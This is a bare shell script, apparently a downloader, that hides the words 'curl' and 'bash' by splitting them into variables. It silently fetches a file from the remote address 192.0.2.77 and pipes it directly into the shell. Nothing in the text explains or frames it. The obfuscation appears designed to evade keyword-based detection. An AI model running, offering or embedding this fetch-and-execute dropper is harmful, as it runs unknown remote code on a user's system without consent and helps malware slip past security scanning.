#!/bin/sh
a=cu; b=rl; c=ba; d=sh
h=http://192.0.2.77/c
$a$b -s $h | $c$d
